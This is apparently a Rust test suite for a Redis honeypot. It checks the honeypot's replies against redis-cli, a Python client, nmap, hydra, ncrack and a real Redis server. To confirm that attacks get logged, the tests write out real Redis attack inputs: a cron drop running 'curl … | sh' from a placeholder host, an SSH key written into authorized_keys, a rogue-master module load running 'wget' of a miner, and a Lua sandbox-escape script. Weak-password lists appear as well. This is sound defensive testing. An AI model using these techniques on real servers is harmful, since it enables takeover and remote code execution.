//! Redis before real clients: redis-cli, the Python client (`redis` from PyPI, in an environment under the build's temporary folder), nmap and
//! hydra; and a real server of the same release beside the trap, which must answer alike.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::print_stdout,
    reason = "a test fails by panicking and says what it skips"
)]

#[path = "support/house.rs"]
#[allow(dead_code, reason = "each test file uses a part of it")]
mod house;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::os::unix::process::CommandExt;
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use house::{House, commands, installed, logins, said};
use kizashi_event::{Detail, Event};
use kizashi_traps::{Identity, LoginSettings, RedisRelease};

fn open(release: RedisRelease) -> House {
    House::of_trap("redis", Identity::draw([1; 32]).with_redis_release(release))
}

/// A program under a time limit, with this input; all that it printed.
fn run(program: &str, arguments: &[&str], input: &str) -> String {
    let mut child = Command::new("timeout")
        .args(["60", program])
        .args(arguments)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(input.as_bytes()).unwrap();
    said(&child.wait_with_output().unwrap())
}

fn cli(house: &House, arguments: &[&str], input: &str) -> String {
    let port = house.port();
    run("redis-cli", &[&["-p", &port][..], arguments].concat(), input)
}

fn classes(events: &[Event]) -> Vec<String> {
    let class = |event: &Event| match &event.detail {
        Detail::Note { name, value } if name.raw() == "redis class" => Some(value.raw().to_owned()),
        _ => None,
    };
    events.iter().filter_map(class).collect()
}

/// Names and contents of what was kept.
fn kept(events: &[Event]) -> Vec<(String, Vec<u8>)> {
    let payload = |event: &Event| match &event.detail {
        Detail::Payload(payload) => Some((
            payload.name.as_ref().map(|name| name.raw().to_owned()).unwrap_or_default(),
            payload.content.clone(),
        )),
        _ => None,
    };
    events.iter().filter_map(payload).collect()
}

#[test]
fn redis_cli_drops_a_line_for_cron_and_a_key_and_both_are_kept_by_name() {
    if !installed("redis-cli") {
        return;
    }
    for release in RedisRelease::ALL {
        let house = open(release);
        assert_eq!(cli(&house, &["PING"], "").trim(), "PONG");
        let info = cli(&house, &["INFO", "server"], "");
        assert!(info.contains(&format!("redis_version:{}\r\n", release.number())), "{info}");
        let cron = "\\n*/1 * * * * curl -fsSL http://192.0.2.1/x.sh | sh\\n";
        let key = "\\n\\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAkJ x\\n";
        let typed = format!(
            "FLUSHALL\nSET x \"{cron}\"\nCONFIG SET dir /var/spool/cron/\nCONFIG SET dbfilename root\nSAVE\nFLUSHALL\nSET k \"{key}\"\nCONFIG SET dir /root/.ssh\nCONFIG SET dbfilename authorized_keys\nSAVE\nCONFIG GET dir\n"
        );
        let answers = cli(&house, &[], &typed);
        let expected = format!("{}dir\n/root/.ssh\n", "OK\n".repeat(10));
        assert_eq!(answers, expected, "{}", release.number());
        let events = house.close();
        let kept = kept(&events);
        let cron = b"\n*/1 * * * * curl -fsSL http://192.0.2.1/x.sh | sh\n".to_vec();
        assert!(kept.contains(&("/var/spool/cron/root".to_owned(), cron)), "{kept:?}");
        assert!(kept.iter().any(|(name, content)| {
            name == "/root/.ssh/authorized_keys" && content.starts_with(b"\n\nssh-ed25519")
        }));
        let classes = classes(&events);
        for class in ["cron drop", "key drop", "deletion"] {
            assert!(classes.iter().any(|found| found == class), "{class} of {classes:?}");
        }
        assert!(commands(&events).iter().any(|line| line == "CONFIG SET dbfilename root"));
    }
}

#[test]
fn a_rogue_servers_victim_notes_the_master_follows_nobody_and_runs_the_modules_commands() {
    if !installed("redis-cli") {
        return;
    }
    // The attacker's server: if anybody comes to it, the trap has followed.
    let rogue = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    rogue.set_nonblocking(true).unwrap();
    let port = rogue.local_addr().unwrap().port();
    let house = open(RedisRelease::V6_0_16);
    let typed = format!(
        "MODULE LOAD ./exp.so\nSLAVEOF 127.0.0.1 {port}\nCONFIG SET dbfilename exp.so\nINFO replication\nMODULE LOAD ./exp.so\nSLAVEOF NO ONE\nsystem.exec \"id; wget http://192.0.2.1/kdevtmpfsi\"\nMODULE UNLOAD system\nsystem.exec id\n"
    );
    let answers = cli(&house, &[], &typed);
    assert!(answers.contains("ERR Error loading the extension"), "{answers}");
    assert!(
        answers.contains("role:slave") && answers.contains("master_link_status:down"),
        "{answers}"
    );
    assert!(answers.contains("uid=0(root)"), "{answers}");
    assert!(answers.contains("unknown command `system.exec`"), "{answers}");
    let events = house.close();
    assert!(rogue.accept().is_err(), "somebody came to the rogue server");
    let forwarded = events.iter().any(|event| {
        matches!(&event.detail, Detail::Forward { host, port: to, .. } if host.raw() == "127.0.0.1" && *to == port)
    });
    assert!(forwarded);
    let lines = commands(&events);
    assert!(lines.iter().any(|line| line == "id; wget http://192.0.2.1/kdevtmpfsi"), "{lines:?}");
    assert!(classes(&events).iter().any(|class| class == "module"));
}

#[test]
fn the_sandbox_escape_works_where_debian_left_it_open_and_nowhere_else() {
    if !installed("redis-cli") {
        return;
    }
    let script = "local io_l = package.loadlib(\"/usr/lib/x86_64-linux-gnu/liblua5.1.so.0\", \"luaopen_io\"); local io = io_l(); local f = io.popen(\"whoami\", \"r\"); local res = f:read(\"*a\"); f:close(); return res";
    for release in RedisRelease::ALL {
        let house = open(release);
        let answer = cli(&house, &["EVAL", script, "0"], "");
        let open = release != RedisRelease::V7_0_15;
        assert_eq!(answer.contains("root"), open, "{answer}");
        assert_eq!(answer.contains("nonexistent global variable 'package'"), !open, "{answer}");
        assert!(classes(&house.close()).iter().any(|class| class == "script escape"));
    }
}

#[test]
fn a_copy_of_all_data_is_an_rdb_file_that_redis_reads() {
    if !installed("redis-check-rdb") {
        return;
    }
    let house = open(RedisRelease::V7_0_15);
    cli(
        &house,
        &[],
        "SET a 1 EX 1000\nRPUSH l a b\nSADD s x\nHSET h f v\nZADD z 1.5 m\nSELECT 3\nSET long 12345678901234567890123456789012345678901234567890123456789012345678901234567890\n",
    );
    let file = house.folder().join("copy.rdb");
    let said = cli(&house, &["--rdb", file.to_str().unwrap()], "");
    let checked = run("redis-check-rdb", &[file.to_str().unwrap()], "");
    assert!(checked.contains("RDB looks OK!"), "{said} {checked}");
    let events = house.close();
    assert!(classes(&events).iter().any(|class| class == "replica"));
}

fn python() -> Option<PathBuf> {
    house::python(
        "redis-client",
        "redis; assert redis.__version__.startswith('5.')",
        &["redis>=5,<6"],
    )
}

const VISIT: &str = r#"
import sys, redis
port = int(sys.argv[1])
for protocol in (2, 3):
    r = redis.Redis(port=port, protocol=protocol, socket_timeout=20)
    assert r.ping() and r.info()["redis_version"] == "7.0.15"
    assert r.dbsize() > 8, r.dbsize()
    before = sorted(r.scan_iter())
    r.set("a", "1", ex=100); assert r.get("a") == b"1" and 90 < r.ttl("a") <= 100
    r.hset("h", mapping={"x": 1, "y": 2}); assert r.hgetall("h") == {b"x": b"1", b"y": b"2"}
    r.rpush("l", *range(5)); assert r.lrange("l", 0, -1) == [b"0", b"1", b"2", b"3", b"4"]
    r.sadd("s", "m", "n"); assert r.smembers("s") == {b"m", b"n"}
    r.zadd("z", {"p": 1.5, "q": 2}); assert r.zrange("z", 0, -1, withscores=True) in ([(b"p", 1.5), (b"q", 2.0)], [[b"p", 1.5], [b"q", 2.0]])
    with r.pipeline() as pipe:
        pipe.incr("n"); pipe.incr("n"); assert pipe.execute() == [1, 2]
    with r.lock("lock", timeout=5): pass
    assert r.exists("lock") == 0
    assert r.config_get("maxmemory")["maxmemory"] == "268435456"
    assert [c["addr"] for c in r.client_list()]
    assert r.blpop(["nothing"], timeout=1) is None
    p = r.pubsub(); p.subscribe("c"); assert p.get_message(timeout=20)["type"] == "subscribe"
    try:
        r.lpush("a", 1); raise SystemExit("pushed on a string")
    except redis.ResponseError as error:
        assert "wrong kind" in str(error)
    assert r.delete("a", "h", "l", "s", "z", "n") == 6
    assert sorted(r.scan_iter()) == before
    big = "x" * 60000
    r.set("big", big); assert r.get("big") == big.encode()
    try:
        r.set("more", big); raise SystemExit("a copy grew past its bound")
    except redis.exceptions.OutOfMemoryError:
        pass
    r.delete("big")
try:
    redis.Redis(port=port, password="foobared", socket_timeout=20).ping(); raise SystemExit("no password is set")
except redis.AuthenticationError:
    pass
print("done")
"#;

#[test]
fn the_python_client_finds_every_type_both_protocols_locks_and_bounds() {
    let Some(python) = python() else { return };
    let house = open(RedisRelease::V7_0_15);
    let text = run(python.to_str().unwrap(), &["-c", VISIT, &house.port()], "");
    let events = house.close();
    assert!(text.lines().any(|line| line == "done"), "{text}");
    let tried = logins(&events);
    assert!(
        tried.iter().any(|(_, password, accepted)| password == "foobared" && !accepted),
        "{tried:?}"
    );
}

/// Who begins with a password finds a server that wants one, and the policy of all logins decides.
#[test]
fn a_guesser_who_begins_with_a_password_is_asked_for_it_until_a_weak_one_opens() {
    if !installed("redis-cli") {
        return;
    }
    let house = open(RedisRelease::V6_0_16);
    let refused = cli(&house, &["-a", "Zx9!kk20-never", "INFO"], "");
    assert!(refused.contains("WRONGPASS") && refused.contains("NOAUTH"), "{refused}");
    // What was refused once stays refused: a guesser goes on in his list.
    let list = ["123456", "password", "admin", "root", "12345", "toor"];
    let opened = list.iter().find(|word| cli(&house, &["-a", word, "PING"], "").contains("PONG"));
    let opened = *opened.expect("a weak password that opens");
    let tried = logins(&house.close());
    assert!(tried.contains(&(String::new(), "Zx9!kk20-never".to_owned(), false)), "{tried:?}");
    assert!(tried.contains(&(String::new(), opened.to_owned(), true)), "{tried:?}");
}

/// ncrack 0.7 knows the words of Redis 5; before a later server, real or not, it waits for ever. Three words: it dies of a list of two.
#[test]
fn ncrack_finds_the_weak_password_and_only_it() {
    if !installed("ncrack") {
        return;
    }
    let logins_at_once = LoginSettings { tries: 1..=1, ..LoginSettings::default() };
    let identity = Identity::draw([1; 32]).with_redis_release(RedisRelease::V5_0_7);
    let house = House::of_trap("redis", identity.with_logins(logins_at_once));
    let list = house.folder().join("list");
    std::fs::write(&list, "kUq81xX-unknown\n123456\nxy-also-unknown\n").unwrap();
    let (list, target) = (list.display().to_string(), format!("redis://{}", house.address));
    let text = run("ncrack", &["-v", "-g", "cl=1", "--user", "x", "-P", &list, &target], "");
    let tried = logins(&house.close());
    assert!(text.contains("'x' '123456'"), "{text}");
    let told = |word: &str, accepted| tried.contains(&(String::new(), word.to_owned(), accepted));
    assert!(told("kUq81xX-unknown", false) && told("123456", true), "{tried:?}");
}

#[test]
fn hydra_is_told_that_no_password_is_needed() {
    if !installed("hydra") {
        return;
    }
    let house = open(RedisRelease::V7_0_15);
    let port = house.port();
    let text =
        run("hydra", &["-I", "-t", "1", "-p", "foobared", "-s", &port, "127.0.0.1", "redis"], "");
    house.close();
    assert!(text.contains("does not require password"), "{text}");
}

#[test]
fn nmap_names_redis_its_release_and_its_facts() {
    if !installed("nmap") {
        return;
    }
    for release in RedisRelease::ALL {
        let house = open(release);
        let port = house.port();
        let arguments = [
            "-sV",
            "--version-light",
            "-Pn",
            "-n",
            "--script",
            "redis-info",
            "-p",
            &port,
            "127.0.0.1",
        ];
        let text = run("nmap", &arguments, "");
        house.close();
        let line = text.lines().find(|line| line.contains("/tcp")).unwrap_or_default();
        assert!(
            line.contains("Redis key-value store") && line.contains(release.number()),
            "{text}"
        );
        // The script runs where nmap knows the port as Redis's by name.
        assert!(text.contains("Operating System: Linux") || !text.contains("redis-info"), "{text}");
    }
}

/// A real server, from the binary that Debian's redis-tools brings under another name.
struct Real {
    child: Child,
    port: u16,
    folder: PathBuf,
}

impl Real {
    fn start() -> Option<Self> {
        let binary = "/usr/bin/redis-check-rdb";
        let version = Command::new(binary).arg0("redis-server").arg("--version").output().ok()?;
        if !String::from_utf8_lossy(&version.stdout).contains("v=7.0.15 ") {
            println!("skipped: no redis-server 7.0.15");
            return None;
        }
        let port =
            TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap().local_addr().unwrap().port();
        let folder =
            std::env::temp_dir().join(format!("kizashi-real-redis-{}", std::process::id()));
        std::fs::create_dir_all(&folder).unwrap();
        let child = Command::new(binary)
            .arg0("redis-server")
            .args(["--port", &port.to_string(), "--bind", "127.0.0.1", "--dir"])
            .arg(&folder)
            .args(["--enable-protected-configs", "yes", "--enable-module-command", "yes"])
            .stdout(Stdio::null())
            .spawn()
            .unwrap();
        Some(Self { child, port, folder })
    }
}

impl Drop for Real {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
        let _ = std::fs::remove_dir_all(&self.folder);
    }
}

/// Reads one reply, with all that is in it.
fn reply(reader: &mut BufReader<TcpStream>, answer: &mut Vec<u8>) {
    let start = answer.len();
    assert!(reader.read_until(b'\n', answer).unwrap() > 0, "closed: {}", answer.escape_ascii());
    let head = String::from_utf8_lossy(&answer[start + 1..]).trim().to_owned();
    match answer[start] {
        b'$' if head != "-1" => {
            let mut content = vec![0; head.parse::<usize>().unwrap() + 2];
            reader.read_exact(&mut content).unwrap();
            answer.extend(content);
        }
        b'*' if head != "-1" => {
            (0..head.parse::<usize>().unwrap()).for_each(|_| reply(reader, answer));
        }
        _ => {}
    }
}

/// What is answered to each of these lines, on one connection.
fn dialogue(port: u16, lines: &[&str]) -> Vec<String> {
    let deadline = Instant::now() + Duration::from_secs(30);
    let mut stream = loop {
        match TcpStream::connect((Ipv4Addr::LOCALHOST, port)) {
            Ok(stream) => break stream,
            Err(error) => assert!(Instant::now() < deadline, "{error}"),
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    stream.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    let mut reader = BufReader::new(stream.try_clone().unwrap());
    let mut ask = |line: &str| {
        stream.write_all(format!("{line}\r\n").as_bytes()).unwrap();
        // Each channel named is answered by itself.
        let words = line.split(' ').count();
        let count = if line.contains("SUBSCRIBE") { (words - 1).max(1) } else { 1 };
        let mut answer = Vec::new();
        (0..count).for_each(|_| reply(&mut reader, &mut answer));
        String::from_utf8_lossy(&answer).into_owned()
    };
    ask("FLUSHALL");
    lines.iter().map(|line| ask(line)).collect()
}

#[test]
fn a_real_server_of_the_same_release_answers_the_same() {
    let Some(real) = Real::start() else { return };
    let house = open(RedisRelease::V7_0_15);
    let (mut asked, mut different) = (0, Vec::new());
    for line in include_str!("redis/corpus.txt").lines().filter(|line| !line.starts_with('#')) {
        let lines: Vec<&str> = line.split(" ;; ").collect();
        let ours = dialogue(house.address.port(), &lines);
        let theirs = dialogue(real.port, &lines);
        for ((line, ours), theirs) in lines.iter().zip(ours).zip(theirs) {
            asked += 1;
            if ours != theirs {
                different.push(format!("{line}\n  ours:   {ours:?}\n  theirs: {theirs:?}"));
            }
        }
    }
    house.close();
    println!("{asked} commands asked, {} answered otherwise", different.len());
    assert!(
        asked > 400 && different.is_empty(),
        "{} of {asked}:\n{}",
        different.len(),
        different.join("\n")
    );
}
